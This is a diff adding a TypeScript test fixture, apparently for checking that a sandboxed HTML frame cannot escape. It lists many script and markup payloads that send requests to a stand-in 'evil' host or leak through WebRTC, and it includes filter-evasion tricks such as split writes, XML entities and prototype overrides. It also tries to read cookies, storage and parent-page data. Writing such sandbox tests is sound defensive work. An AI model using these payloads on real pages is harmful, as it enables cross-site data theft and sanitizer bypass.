@@ -1,0 +1,208 @@
+/**
+ * ways-out.ts: how a document tries to get out of its frame, and what it tries to get hold of.
+ *
+ * Each way is a whole document. It speaks to hosts of its own (`To`), so that whoever hears it knows which way it came.
+ */
+
+/** Whom one way speaks to. */
+export interface To {
+  /** An address without a slash at its end. */
+  readonly evil: string
+  /** Host and port for packets. */
+  readonly udp: string
+}
+
+export interface Way {
+  readonly name: string
+  readonly html: (to: To) => string
+  /** `never`: nobody hears it in this browser. `packets`: it needs a network. */
+  readonly isHeard: "always" | "packets" | "never"
+}
+
+type Code = (to: To) => string
+
+const way = (name: string, html: Code, isHeard: Way["isHeard"] = "always"): Way => ({ name, html, isHeard })
+const run = (name: string, code: Code, isHeard?: Way["isHeard"]): Way =>
+  way(name, (to) => `<script>${code(to)}</script>`, isHeard)
+const calls = (name: string, code: Code): Way => run(`WebRTC ${name}`, code, "packets")
+
+const rtc: Code = ({ udp }) =>
+  `const c=new RTCPeerConnection({iceServers:[{urls:'stun:${udp}'}]});c.createDataChannel('x');c.createOffer().then((o)=>c.setLocalDescription(o))`
+
+const REQUESTS: readonly Way[] = [
+  run("fetch", ({ evil }) => `fetch('${evil}/fetch',{mode:'no-cors'})`),
+  run("XMLHttpRequest", ({ evil }) => `const x=new XMLHttpRequest();x.open('GET','${evil}/xhr');x.send()`),
+  run("WebSocket", ({ evil }) => `new WebSocket('${evil.replace("http", "ws")}/ws')`),
+  run("EventSource", ({ evil }) => `new EventSource('${evil}/es')`),
+  run("sendBeacon", ({ evil }) => `navigator.sendBeacon('${evil}/beacon','x')`),
+  run("keepalive", ({ evil }) => `fetch('${evil}/keep',{keepalive:true,mode:'no-cors'})`),
+  run("fetchLater", ({ evil }) => `fetchLater('${evil}/later',{activateAfter:0})`),
+  run("WebTransport", ({ evil }) => `new WebTransport('${evil.replace("http", "https")}/wt')`, "never"),
+  way("image", ({ evil }) => `<img src="${evil}/img">`),
+  way("responsive image", ({ evil }) => `<img srcset="${evil}/srcset 1x">`),
+  way("picture of a film", ({ evil }) => `<video poster="${evil}/poster"></video>`),
+  way("sound", ({ evil }) => `<audio src="${evil}/audio" autoplay></audio>`),
+  way("style", ({ evil }) => `<p style="background:url(${evil}/css)">x</p>`),
+  way("style sheet", ({ evil }) => `<style>@import "${evil}/import";</style>`),
+  way("font", ({ evil }) => `<style>@font-face{font-family:f;src:url(${evil}/font)}p{font-family:f}</style><p>x</p>`),
+  way("linked style", ({ evil }) => `<link rel="stylesheet" href="${evil}/link">`),
+  way("prefetch", ({ evil }) => `<link rel="prefetch" href="${evil}/prefetch">`),
+  way("preconnect", ({ evil }) => `<link rel="preconnect" href="${evil}">`, "never"),
+  run(
+    "links that a script makes",
+    ({ evil }) =>
+      `for(const r of ['preconnect','dns-prefetch','prefetch','preload','stylesheet','icon']){const l=document.createElement('link');l.rel=r;l.href='${evil}/'+r;l.as='fetch';document.documentElement.append(l)}`,
+  ),
+  way("script", ({ evil }) => `<script src="${evil}/script"></script>`),
+  way("module", ({ evil }) => `<script type="module">import("${evil}/module")</script>`),
+  way(
+    "speculation",
+    ({ evil }) =>
+      `<script type="speculationrules">{"prefetch":[{"source":"list","eagerness":"immediate","urls":["${evil}/spec"]}]}</script>`,
+    "never",
+  ),
+  way("object", ({ evil }) => `<object data="${evil}/object"></object>`),
+  way("embed", ({ evil }) => `<embed src="${evil}/embed">`),
+  way(
+    "drawing",
+    ({ evil }) =>
+      `<svg><image href="${evil}/svg" /><script href="${evil}/svgs"></script><filter id="f"><feImage href="${evil}/fe"/></filter></svg>`,
+  ),
+  way(
+    "old and odd attributes",
+    ({ evil }) =>
+      `<input type="image" src="${evil}/ii"><table background="${evil}/tb"></table><p style="cursor:url(${evil}/c),auto;mask:url(${evil}/m);list-style:url(${evil}/l);border-image:url(${evil}/b);background:image-set('${evil}/s' 1x)">x</p>`,
+  ),
+  run(
+    "worker",
+    ({ evil }) => `new Worker(URL.createObjectURL(new Blob(["fetch('${evil}/worker',{mode:'no-cors'})"])))`,
+  ),
+]
+
+const JOURNEYS: readonly Way[] = [
+  way("frame", ({ evil }) => `<iframe src="${evil}/frame"></iframe>`),
+  run(
+    "frame that a script makes",
+    ({ evil }) => `const f=document.createElement('iframe');f.src='${evil}/made';document.documentElement.append(f)`,
+  ),
+  way("ping", ({ evil }) => `<a id="a" ping="${evil}/ping" href="#x">x</a><script>a.click()</script>`),
+  way("form", ({ evil }) => `<form id="f" action="${evil}/form"><input name="q"></form><script>f.submit()</script>`),
+  run("window", ({ evil }) => `open('${evil}/window')`),
+  run("window by name", ({ evil }) => `open('${evil}/parent','_parent');open('${evil}/top','_top')`),
+  run("the page's place", ({ evil }) => `top.location='${evil}/top'`),
+  way(
+    "link to the page's place",
+    ({ evil }) => `<a id="a" target="_top" href="${evil}/top">x</a><script>a.click()</script>`,
+  ),
+  run("its own place", ({ evil }) => `location='${evil}/self'`),
+  run("its own place by script", ({ evil }) => `location="javascript:'<img src=${evil}/js>'"`),
+  way("refresh", ({ evil }) => `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`),
+  way("base", ({ evil }) => `<base href="${evil}/"><img src="based">`),
+  way("download", ({ evil }) => `<a id="a" download href="${evil}/download">x</a><script>a.click()</script>`),
+  way("its own place in a frame", ({ evil }) => `<iframe srcdoc="<script>location='${evil}/inner'</script>"></iframe>`),
+  run("our routes", () => `fetch('/v1/secret',{credentials:'include'})`),
+  run("our routes by frame", () => `location='/v1/secret'`),
+]
+
+/** Markup of a frame with a realm of its own. In HTML, and in XML with its name spelt as told. */
+const framed: Code = (to) => `<iframe srcdoc="<script>${rtc(to)}</script>"></iframe>`
+const inXml = (name: string, to: To, bracket = "&lt;"): string =>
+  `<${name} srcdoc="${bracket}script>${rtc(to)}${bracket}/script>"/>`
+
+/** JavaScript for a string that neither ends the script nor is seen by who looks for tags in it. */
+const text = (said: string): string => JSON.stringify(said).replaceAll("<", "\\x3c")
+const insert = (html: string): string =>
+  `const d=document.createElement('div');document.documentElement.append(d);d.innerHTML=${text(html)}`
+const adopt = (xml: string): string =>
+  `document.documentElement.append(document.adoptNode(new DOMParser().parseFromString(${text(xml)},'application/xml').documentElement))`
+const XHTML = `xmlns:h="http://www.w3.org/1999/xhtml"`
+
+/** A frame inside has again what was taken away from its document. */
+const CALLS: readonly Way[] = [
+  calls("by itself", rtc),
+  way("WebRTC in a frame", framed, "packets"),
+  calls("in a frame by markup", (to) => insert(framed(to))),
+  calls("in a written frame", (to) => `document.write(${text(framed(to))})`),
+  calls(
+    "in a frame that is written in two pieces",
+    (to) => `document.write('<ifr');document.write(${text(framed(to).slice("<ifr".length))})`,
+  ),
+  way(
+    "WebRTC in a frame that its document ends",
+    (to) => `<script>document.write('<ifr')</script>${framed(to).slice("<ifr".length)}`,
+    "packets",
+  ),
+  way(
+    "WebRTC in a frame of one letter and its document",
+    (to) => `<script>document.write('<')</script>${framed(to).slice("<".length)}`,
+    "packets",
+  ),
+  ...[
+    "f.srcdoc=s",
+    "f.setAttribute('srcdoc',s)",
+    "const a=document.createAttribute('srcdoc');a.value=s;f.setAttributeNode(a)",
+  ].map((code, at) =>
+    calls(
+      `in a frame by attribute (${at + 1})`,
+      (to) =>
+        `const s=${text(`<script>${rtc(to)}</script>`)},f=document.createElement('iframe');${code};document.documentElement.append(f)`,
+    ),
+  ),
+  calls(
+    "in a frame of another document",
+    (to) =>
+      `const x=document.implementation.createHTMLDocument();x.body.innerHTML=${text(framed(to))};document.documentElement.append(x.body.firstChild)`,
+  ),
+  calls("in a frame of XML", (to) => adopt(`<h:div ${XHTML}>${inXml("h:iframe", to)}</h:div>`)),
+  calls("in a frame of an entity", (to) =>
+    adopt(
+      `<!DOCTYPE r [<!ENTITY e '&#60;h:iframe srcdoc="&#38;lt;script>${rtc(to).replaceAll("'", "&#38;apos;")}&#38;lt;/script>"/>'>]><h:div ${XHTML}>&e;</h:div>`,
+    ),
+  ),
+  calls(
+    "in a frame within XML",
+    (to) =>
+      `const x=document.implementation.createDocument('http://www.w3.org/1999/xhtml','h:div');x.documentElement.innerHTML=${text(inXml("h:iframe", to))};document.documentElement.append(document.adoptNode(x.documentElement))`,
+  ),
+  ...[
+    "RegExp.prototype[Symbol.replace]=(s)=>s",
+    "RegExp.prototype.exec=()=>null",
+    "RegExp.prototype.test=()=>false",
+    "String.prototype.replace=function(){return this}",
+    "Object.defineProperty(RegExp.prototype,'flags',{get:()=>''});Object.defineProperty(RegExp.prototype,'global',{get:()=>false})",
+    "Function.prototype.call=Function.prototype.apply=()=>'';String.prototype.includes=()=>false",
+  ].flatMap((code) => [
+    calls(`in a frame, after ${code.slice(0, 40)}`, (to) => `${code};${insert(`<iframe></iframe>${framed(to)}`)}`),
+    calls(
+      `in a frame by attribute, after ${code.slice(0, 40)}`,
+      (to) =>
+        `${code};const f=document.createElement('iframe');f.srcdoc=${text(`<script>${rtc(to)}</script>`)};document.documentElement.append(f)`,
+    ),
+  ]),
+  calls(
+    "in its own place by script",
+    (to) => `location=${text(`javascript:${JSON.stringify(`<script>${rtc(to)}</script>`)}`)}`,
+  ),
+]
+
+export const WAYS: readonly Way[] = [...REQUESTS, ...JOURNEYS, ...CALLS]
+
+/** Each says what it got; in the frame none may get anything. */
+export const GRABS: Readonly<Record<string, string>> = {
+  "the page's document": "parent.document.title",
+  "the page's variables": "parent.secret",
+  "a cookie": "document.cookie || (() => { throw 0 })()",
+  "setting a cookie": "document.cookie = 'a=b', document.cookie || (() => { throw 0 })()",
+  localStorage: "localStorage.getItem('secret')",
+  sessionStorage: "sessionStorage.length",
+  indexedDB: "indexedDB.open('x').constructor.name",
+  caches: "caches.constructor.name",
+  "a service worker": "navigator.serviceWorker.constructor.name",
+  "its frame": "frameElement.title",
+  "an origin": "origin === 'null' ? (() => { throw 0 })() : origin",
+  eval: "eval('1+1')",
+  dialogs: "confirm('x') || (() => { throw 0 })()",
+  "a peer connection": "new RTCPeerConnection().constructor.name",
+  "another policy": "trustedTypes.createPolicy('other', {}).name",
+  "another default policy": "trustedTypes.createPolicy('default', {}).name",
+}
